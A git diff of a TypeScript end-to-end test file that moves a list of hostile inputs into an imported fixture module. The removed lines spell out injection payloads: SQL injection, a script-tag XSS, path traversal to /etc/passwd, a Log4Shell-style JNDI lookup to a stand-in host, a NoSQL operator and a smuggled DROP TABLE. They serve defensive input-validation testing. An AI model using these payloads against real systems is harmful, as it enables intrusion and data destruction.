@@ -6,6 +6,7 @@ import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { apiRoutes } from "../infra/api/routes";
 import type { RunningAll } from "../local/start";
 import { type ApiClient, clientFor, createCredentialMember, startE2e, waitForSync } from "./fixtures/e2e";
+import { INJECTIONS } from "./fixtures/hostile-input";
 
 let app: RunningAll;
 let owner: ApiClient;
@@ -112,17 +113,6 @@ describe("who may call", () => {
     expect(res.body).toEqual({ message: "Not Found" });
   });
 });
-
-const INJECTIONS = [
-  "' OR '1'='1",
-  "<script>alert(1)</script>",
-  "../../etc/passwd",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, literally
-  "${jndi:ldap://evil.test/a}",
-  '{"$ne":null}',
-  "MBR-1; DROP TABLE members",
-  `MBR-${"a".repeat(300)}`,
-];
 
 type BadCase = [
   title: string,
